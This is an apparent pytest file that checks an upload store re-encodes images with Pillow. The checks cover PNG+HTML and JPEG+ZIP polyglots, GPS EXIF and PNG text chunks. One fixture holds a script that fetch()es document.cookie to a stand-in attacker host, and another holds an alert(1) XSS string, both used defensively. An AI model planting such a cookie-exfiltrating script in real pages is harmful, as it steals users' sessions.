"""Uploads come out as images and nothing else: a PNG with an HTML page after it, a JPEG
with a ZIP archive after it, a photo with its GPS position — each is re-encoded by Pillow
before it is kept and again before it is shown, so only the pixels are served back."""

from __future__ import annotations

import hashlib
import io
import zipfile
from pathlib import Path

import pytest
from PIL import Image, PngImagePlugin

from rumordesk.store.files import ImageRejected, read_image, reencode, save_image

HTML = b"<html><body><script>fetch('https://attacker.invalid/?c='+document.cookie)</script>"
GPS_IFD = 0x8825


def _image(fmt: str, **save: object) -> bytes:
    out = io.BytesIO()
    picture = Image.new("RGB", (64, 48), (30, 90, 160))
    picture.putpixel((3, 4), (250, 250, 0))
    picture.save(out, fmt, **save)
    return out.getvalue()


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.html", HTML)
    return out.getvalue()


def _with_gps(fmt: str) -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0112] = 1  # Orientation
    gps = exif.get_ifd(GPS_IFD)
    gps.update({1: "N", 2: (37.0, 21.0, 13.5), 3: "W", 4: (121.0, 58.0, 7.2)})
    return _image(fmt, exif=exif.tobytes())


def _kept(tmp_path: Path, data: bytes) -> bytes:
    saved = save_image(data, folder=tmp_path / "shots")
    stored = saved.path.read_bytes()
    assert saved.sha256 == hashlib.sha256(stored).hexdigest() and saved.size == len(stored)
    return stored


def test_a_png_html_polyglot_is_kept_as_a_pure_png(tmp_path):
    original = _image("PNG")
    stored = _kept(tmp_path, original + HTML)
    assert b"<html" not in stored and b"script" not in stored
    assert stored.endswith(b"IEND\xaeB`\x82")  # the PNG ends where its last chunk ends
    with Image.open(io.BytesIO(stored)) as kept, Image.open(io.BytesIO(original)) as sent:
        assert kept.format == "PNG" and kept.tobytes() == sent.tobytes()


def test_a_jpeg_zip_polyglot_is_kept_as_a_pure_jpeg(tmp_path):
    polyglot = _image("JPEG", quality=95) + _zip()
    assert zipfile.is_zipfile(io.BytesIO(polyglot))  # the attack: both an image and a zip
    stored = _kept(tmp_path, polyglot)
    assert not zipfile.is_zipfile(io.BytesIO(stored))
    assert b"PK\x03\x04" not in stored and b"payload.html" not in stored
    assert stored.endswith(b"\xff\xd9")
    with Image.open(io.BytesIO(stored)) as kept:
        assert kept.format == "JPEG" and kept.size == (64, 48)


@pytest.mark.parametrize("fmt", ["JPEG", "WEBP", "PNG"])
def test_gps_and_every_other_metadata_are_dropped(tmp_path, fmt):
    sent = _with_gps(fmt)
    with Image.open(io.BytesIO(sent)) as before:
        assert before.getexif().get_ifd(GPS_IFD), "the test image carries no GPS position"
    stored = _kept(tmp_path, sent)
    with Image.open(io.BytesIO(stored)) as kept:
        assert kept.format == fmt
        assert not kept.getexif() and not kept.getexif().get_ifd(GPS_IFD)
        assert "exif" not in kept.info and "icc_profile" not in kept.info
    assert b"PhoneMaker" not in stored


def test_png_text_chunks_are_dropped(tmp_path):
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    info.add_itxt("Author", "someone@example.org")
    stored = _kept(tmp_path, _image("PNG", pnginfo=info))
    assert b"script" not in stored and b"someone@example.org" not in stored


def test_the_photo_is_turned_the_way_its_exif_said(tmp_path):
    exif = Image.Exif()
    exif[0x0112] = 6  # rotate 90° clockwise to display
    stored = _kept(tmp_path, _image("JPEG", exif=exif.tobytes()))
    with Image.open(io.BytesIO(stored)) as kept:
        assert kept.size == (48, 64) and 0x0112 not in kept.getexif()


def test_the_same_image_sent_twice_is_kept_once(tmp_path):
    first = save_image(_image("PNG"), folder=tmp_path / "shots")
    second = save_image(_image("PNG"), folder=tmp_path / "shots")
    assert first.path == second.path and len(list((tmp_path / "shots").iterdir())) == 1


def test_a_polyglot_kept_by_an_older_version_is_shown_re_encoded(tmp_path):
    folder = tmp_path / "shots"
    folder.mkdir()
    legacy = _image("PNG") + HTML  # stored as it came, before re-encoding existed
    path = folder / f"{hashlib.sha256(legacy).hexdigest()}.png"
    path.write_bytes(legacy)
    shown = read_image(str(path), folder=folder, sha256=hashlib.sha256(legacy).hexdigest())
    assert shown is not None and b"<html" not in shown
    assert reencode(shown)[0] == shown  # already only an image
    with pytest.raises(ImageRejected, match="SHA-256"):
        read_image(str(path), folder=folder, sha256="0" * 64)
    assert read_image(str(tmp_path / "elsewhere.png"), folder=folder, sha256=None) is None
